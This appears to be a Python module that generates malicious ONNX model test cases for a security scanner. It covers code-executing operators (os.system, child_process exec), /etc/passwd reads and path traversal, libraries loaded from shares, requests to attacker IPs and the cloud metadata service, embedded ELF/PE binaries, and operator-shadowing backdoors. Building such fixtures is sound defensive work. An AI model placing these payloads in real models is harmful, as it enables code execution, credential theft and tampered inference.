"""Operators that run code, use files or contact servers; functions that replace operators; options of runtimes."""
# fmt: off

from __future__ import annotations

import json

from .case import declare
from .payload_bytes import ELF, PE
from .writer import (
    BOOL,
    STRING,
    X,
    Y,
    function,
    graph,
    model,
    model_with_extras,
    network,
    node,
    record,
    scalar,
    strings,
    value,
    values,
)

CONTRIB = (("", 21), ("ai.onnx.contrib", 1))
EXTENSIONS = (("", 21), ("com.microsoft.extensions", 1))
MICROSOFT = (("", 21), ("com.microsoft", 1))
OPSETS = (("", 21), ("local", 1))
IDENTITY = graph([node("Identity", ["x"], ["y"])], [X], [Y])


def opsets_with(domain):
    """Return the imports of the default operator set and version 1 of a domain."""
    return (("", 21), (domain, 1))


attack = declare("python-operator", "code", "An operator runs Python code, or other code that it contains or names.",
    "CWE-94", "onnxruntime with PyOp or training, onnxruntime-extensions")
attack("pyop", "PyOp of ai.onnx.contrib (onnxruntime-extensions) calls a registered Python function.",
    network([node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib", id=1)], opsets=CONTRIB))
attack("pyop-module", "PyOp of the domain pyop names a module and a class to import.", network([node("PyOp", ["x"],
    ["y"], domain="pyop", module="os", class_name="system", compute="popen")], opsets=opsets_with("pyop")))
attack("python-op", "PythonOp of onnxruntime training calls an autograd function by name.", network([node("PythonOp",
    ["x"], ["c", "y"], domain="com.microsoft", func_name="os.system", input_convention="d", output_convention="d")],
    opsets=MICROSOFT))
attack("python-op-grad", "PythonOpGrad of onnxruntime training.", network([node("PythonOpGrad", ["x", "x"], ["y"],
    domain="com.microsoft", func_name="os.system")], opsets=MICROSOFT))
attack("aten", "ATen of org.pytorch.aten calls any operator of PyTorch.", network([node("ATen", ["x"], ["y"],
    domain="org.pytorch.aten", operator="aten::from_file")], opsets=opsets_with("org.pytorch.aten")))
attack("triton", "TritonOp runs a kernel by name.", network([node("TritonOp", ["x"], ["y"], domain="com.microsoft",
    func_name="evil", onnx_string=b"...")], opsets=MICROSOFT))
attack("triton-kernel", "A node of com.microsoft.triton.", network([node("Kernel", ["x"], ["y"],
    domain="com.microsoft.triton", code="import os")], opsets=opsets_with("com.microsoft.triton")))
attack("in-branch", "PyOp in a branch.", network([node("If", ["t"], ["y"], then_branch=graph([node("Identity", ["x"],
    ["a"])], [], [value("a")]), else_branch=graph([node("PyOp", ["x"], ["b"], domain="ai.onnx.contrib")], [],
    [value("b")]))], [scalar("t", True, BOOL)], opsets=CONTRIB))
attack("in-function", "PyOp in the body of a function.", network([node("Normalize", ["x"], ["y"], domain="local")],
    opsets=OPSETS, functions=[function("Normalize", [node("PyOp", ["a"], ["b"], domain="ai.onnx.contrib")], ["a"],
    ["b"], opsets=CONTRIB)]))
attack("in-training", "PyOp in the training algorithm.", model_with_extras(extra=record(20, record(2, graph([node(
    "PyOp", ["x"], ["z"], domain="ai.onnx.contrib")], [X], [value("z")])))))
attack("spelled-python-op", "Python_Op, a spelling that a comparison with PyOp misses.", network([node("Python_Op",
    ["x"], ["y"], domain="ai.onnx.contrib")], opsets=CONTRIB))
attack("lambda", "A Lambda of the domain keras with the first bytes of marshalled Python code.", network([node("Lambda",
    ["x"], ["y"], domain="keras", function=b"\xe3\0\0\0\0")], opsets=opsets_with("keras")))
attack("java-script", "A JavaScript operator with code in an attribute.", network([node("JSKernel", ["x"], ["y"],
    domain="com.example.js", source="require('child_process').exec('id')")], opsets=opsets_with("com.example.js")))
attack("custom-kernel", "A node with PTX code for a GPU.", network([node("CudaKernel", ["x"], ["y"],
    domain="com.example.cuda", ptx=".version 7.0\n.target sm_70\n")], opsets=opsets_with("com.example.cuda")))

attack = declare("operator-file", "code", "An operator loads a library or compiled code, or reads or writes a file.",
    "CWE-829", "onnxruntime-extensions, TensorRT, OpenVINO, custom runtimes")


def file_attack(name, description, op, domain, inputs=("x",), **attributes):
    """Add an attack whose node loads compiled code, or reads or writes a file."""
    attack(name, description, network([node(op, inputs, ["y"], domain=domain, **attributes)],
        opsets=opsets_with(domain)))


file_attack("bert-tokenizer", "BertTokenizer with vocab_file /etc/passwd.", "BertTokenizer", "ai.onnx.contrib",
    vocab_file="/etc/passwd")
file_attack("sentencepiece", "SentencepieceTokenizer with a model path outside of the folder.",
    "SentencepieceTokenizer", "ai.onnx.contrib", model_path="../../secret.model")
file_attack("blingfire", "BlingFireSentenceBreaker with a model path.", "BlingFireSentenceBreaker", "ai.onnx.contrib",
    model="/usr/lib/evil.bin")
file_attack("custom-library", "A node that names a shared library.", "CustomOp", "com.example",
    library_path="./evil.so")
file_attack("plugin", "A TensorRT plugin with the path of a library.", "TRT_PluginV2", "trt.plugins",
    plugin_library="/tmp/libplugin.so", plugin_name="evil")
file_attack("windows-library", "A node that names a DLL on a share.", "CustomOp", "com.example",
    dll="\\\\192.0.2.1\\share\\evil.dll")
file_attack("snpe", "Snpe of com.microsoft with a container of code for a DSP.", "Snpe", "com.microsoft", DLC=ELF,
    notes="")
file_attack("file-reader", "ReadFile of com.example reads /etc/passwd.", "ReadFile", "com.example",
    filename="/etc/passwd")
file_attack("file-writer", "A node that writes a file.", "WriteFile", "com.example", filename="/tmp/evil")
file_attack("wordpiece", "WordpieceTokenizer with the vocabulary path ../../vocab.txt.", "WordpieceTokenizer",
    "ai.onnx.contrib", vocab="../../vocab.txt")
attack("extension-read-file", "ReadFile of TensorFlow, in the domain of a converter, with a constant path.",
    network([node("ReadFile", ["p"], ["y"], domain="ai.onnx.converters.tensorflow")], [strings("p", ["/etc/passwd"])],
    outputs=[value("y", STRING, [None])], opsets=opsets_with("ai.onnx.converters.tensorflow")))

attack = declare("operator-network", "code", "An operator sends inputs to a server that an attribute names.",
    "CWE-918", "onnxruntime-extensions")


def server_attack(name, description, op, **attributes):
    """Add an attack whose node sends a request to a server."""
    attack(name, description, network([node(op, ["k", "x"], ["y"], domain="com.microsoft.extensions", **attributes)],
        [strings("k", ["key"])], opsets=EXTENSIONS))


server_attack("openai-audio", "OpenAIAudioToText with model_uri of an attacker's server.", "OpenAIAudioToText",
    model_uri="https://192.0.2.1/v1/audio", model_name="whisper")
server_attack("azure-chat", "AzureTextToText with a model_uri.", "AzureTextToText", model_uri="https://192.0.2.1/chat",
    model_name="x")
server_attack("triton-invoker", "AzureTritonInvoker with a model_uri.", "AzureTritonInvoker",
    model_uri="http://192.0.2.1:8000", model_name="x", model_version="1")
server_attack("metadata-service", "AzureTextToText whose model_uri is the metadata service of a cloud.",
    "AzureTextToText", model_uri="http://169.254.169.254/latest/meta-data/", model_name="x")
server_attack("http-request", "A generic HTTP operator.", "HttpRequest", url="http://192.0.2.1/?q=")

attack = declare("ep-context", "code",
    "EPContext or a similar operator contains or names a compiled binary, which a driver runs.", "CWE-829",
    "onnxruntime with QNN, OpenVINO, TensorRT, VitisAI")
FIX_PAGE = "https://github.com/microsoft/onnxruntime/pull/28605"


def context_attack(name, description, source=FIX_PAGE, cwe="CWE-829", **attributes):
    """Add an attack with an EPContext node."""
    attack(name, description, network([node("EPContext", ["x"], ["y"], domain="com.microsoft",
        **({"main_context": 1} | attributes))], opsets=MICROSOFT), source=source, cwe=cwe)


context_attack("traversal", "embed_mode 0 with the path ../../outside.bin.", cwe="CWE-22", embed_mode=0,
    ep_cache_context="../../outside.bin", source="https://github.com/microsoft/onnxruntime/pull/19174")
context_attack("absolute", "embed_mode 0 with an absolute path.", cwe="CWE-22", embed_mode=0,
    ep_cache_context="/etc/passwd")
context_attack("windows", "embed_mode 0 with a path on drive C.", cwe="CWE-22", embed_mode=0,
    ep_cache_context="C:\\Windows\\System32\\evil.dll")
context_attack("share", "embed_mode 0 with a path on a share.", cwe="CWE-22", embed_mode=0,
    ep_cache_context="\\\\192.0.2.1\\share\\ctx.bin")
context_attack("folder", "embed_mode 0 with a file name, and no checksum of the file.", embed_mode=0,
    ep_cache_context="context.bin", ep_sdk_version="1.0")
context_attack("embedded-elf", "embed_mode 1 with an ELF program.", embed_mode=1, ep_cache_context=ELF)
context_attack("embedded-pe", "embed_mode 1 with a Windows program.", embed_mode=1, ep_cache_context=PE)
context_attack("partition", "main_context 0 and the partition name ../evil.", main_context=0, embed_mode=0,
    ep_cache_context="", partition_name="../evil")
attack("in-function", "EPContext in a function.", network([node("Block", ["x"], ["y"], domain="local")], opsets=OPSETS,
    functions=[function("Block", [node("EPContext", ["a"], ["b"], domain="com.microsoft", embed_mode=0,
    ep_cache_context="../evil.bin")], ["a"], ["b"], opsets=MICROSOFT)]))
attack("engine", "TRTEngineOp with a serialized engine.", network([node("TRTEngineOp", ["x"], ["y"], domain="trt",
    serialized_engine=ELF, engine_path="/tmp/e.plan")], opsets=opsets_with("trt")))

attack = declare("unknown-domain", "code",
    "An operator or its domain is undocumented: a library that is loaded at run time defines the operator.", "CWE-829",
    "runtimes with custom operator libraries")
for case_name, domain, description in (
    ("plain", "com.example.private", "A private domain, whose operators are undocumented."),
    ("nvidia", "nvinfer1", "A domain of plugins."),
    ("empty-looking", " ", "The domain is a space."),
    ("versioned", "com.microsoft.v2", "A domain that extends a known name."),
    ("reverse", "microsoft.com", "A domain that reverses a known name."),
    ("upper-case", "COM.MICROSOFT", "A domain in capitals."),
    ("test", "test", "The domain 'test'."),
):
    attack(case_name, description, network([node("Transform", ["x"], ["y"], domain=domain)],
        opsets=opsets_with(domain)))
attack("not-imported", "A node of a domain that the model does not import.", network([node("Transform", ["x"], ["y"],
    domain="com.example.hidden")]))
attack("standard-domain", "An operator that the default domain does not have.", network([node("LoadLibrary", ["x"],
    ["y"])]))
attack("in-function-only", "A domain that only a function's body uses.", network([node("F", ["x"], ["y"],
    domain="local")], opsets=OPSETS, functions=[function("F", [node("Transform", ["a"], ["b"],
    domain="com.example.deep")], ["a"], ["b"], opsets=opsets_with("com.example.deep"))]))
attack("microsoft-unknown", "An operator that com.microsoft does not have.", network([node("RunShell", ["x"], ["y"],
    domain="com.microsoft")], opsets=MICROSOFT))

attack = declare("function-shadows", "code",
    "A function has the name of an operator of ONNX or onnxruntime and does something else.", "CWE-1021",
    "onnx, onnxruntime, Netron, inliners")


def shadow_attack(name, description, op, body, domain="", inputs=("a",), opsets=(("", 21),), **options):
    """Add an attack with a function that replaces the operator `op`."""
    call = node(op, ["x"] * len(inputs), ["y"], domain=domain or None, **options)
    attack(name, description, network([call], opsets=opsets, functions=[function(op, body, inputs, ["b"], domain)]))


shadow_attack("relu", "Relu is Neg.", "Relu", [node("Neg", ["a"], ["b"])])
shadow_attack("softmax", "Softmax is Identity.", "Softmax", [node("Identity", ["a"], ["b"])])
shadow_attack("ai-onnx", "Relu of the domain ai.onnx, an alias of the default domain, is Neg.", "Relu", [node("Neg",
    ["a"], ["b"])], "ai.onnx", opsets=(("", 21), ("ai.onnx", 21)))
shadow_attack("microsoft", "Gelu of com.microsoft is Neg.", "Gelu", [node("Neg", ["a"], ["b"])], "com.microsoft",
    opsets=MICROSOFT)
shadow_attack("machine-learning", "Scaler of ai.onnx.ml is Neg.", "Scaler", [node("Neg", ["a"], ["b"])], "ai.onnx.ml",
    opsets=(("", 21), ("ai.onnx.ml", 3)))
shadow_attack("function-operator", "LayerNormalization, which the standard itself defines by a function, is Mul.",
    "LayerNormalization", [node("Mul", ["a", "s"], ["b"])], inputs=("a", "s"))
shadow_attack("matmul", "MatMul adds.", "MatMul", [node("Add", ["a", "c"], ["b"])], inputs=("a", "c"))
shadow_attack("like-onnx", "LayerNormalization of ai.onnx.nn, which ONNX does not define, is Neg.",
    "LayerNormalization", [node("Neg", ["a"], ["b"])], "ai.onnx.nn", opsets=(("", 21), ("ai.onnx.nn", 1)))
shadow_attack("like-runtime", "Gelu of com.microsoft.ops, which onnxruntime does not define, is Neg.", "Gelu",
    [node("Neg", ["a"], ["b"])], "com.microsoft.ops", opsets=(("", 21), ("com.microsoft.ops", 1)))
attack("overload", "A function Relu with an overload name is Neg.",
    network([node("Relu", ["x"], ["y"], extra=record(8, "fast"))],
    functions=[function("Relu", [node("Neg", ["a"], ["b"])], ["a"], ["b"], "", extra=record(13, "fast"))]))
attack("control-flow", "If is replaced by a function that executes no branch.", network([node("If", ["t"], ["y"],
    then_branch=graph([node("Identity", ["x"], ["a"])], [], [value("a")]), else_branch=graph([node("Neg", ["x"],
    ["q"])], [], [value("q")]))], [scalar("t", True, BOOL)], functions=[function("If", [node("Constant", [], ["b"],
    value=values(None, [6.0] * 4))], ["a"], ["b"], "")]))
attack("trigger", "Clip is replaced by a function with a trigger.", network([node("Clip", ["x"], ["y"])],
    functions=[function("Clip", [node("Constant", [], ["k"], value_float=1337.0), node("Constant", [], ["z"],
    value_float=0.0), node("Equal", ["a", "k"], ["e"]), node("Where", ["e", "z", "a"], ["b"])], ["a"], ["b"], "")]))

attack = declare("runtime-config", "code", "Metadata configures the runtime that loads the model.", "CWE-15",
    "onnxruntime with ORT_LOAD_CONFIG_FROM_MODEL=1, tools that read options from metadata")


def config_attack(name, description, options, key="ort_config"):
    """Add an attack whose metadata configures a runtime. options: a text, or values that are stored as JSON."""
    text = options if isinstance(options, str) else json.dumps(options)
    attack(name, description, model(IDENTITY, metadata=((key, text),)))


config_attack("profiling", "ort_config turns on profiling, which writes files.",
    {"session_options": {"enable_profiling": 1}})
config_attack("threads", "ort_config asks for 100,000 threads.", {"session_options": {"intra_op_num_threads": 100000}})
config_attack("unbounded-json", "ort_config is JSON nested 20,000 levels deep.", "[" * 20000 + "]" * 20000)
config_attack("custom-library", "ort_config registers a library of custom operators.",
    {"session_options": {"custom_op_library": "/tmp/evil.so"}})
config_attack("optimized-model", "ort_config writes the optimized model to a path.",
    {"session_options": {"optimized_model_filepath": "/tmp/evil.onnx"}})
config_attack("provider", "A metadata key of an execution provider sets the path of a cache.", "/tmp/cache/../../evil",
    "trt_engine_cache_path")
config_attack("openvino", "The key of OpenVINO's runtime information sets a cache folder.", "/tmp/evil",
    "rt_info.cache_dir")
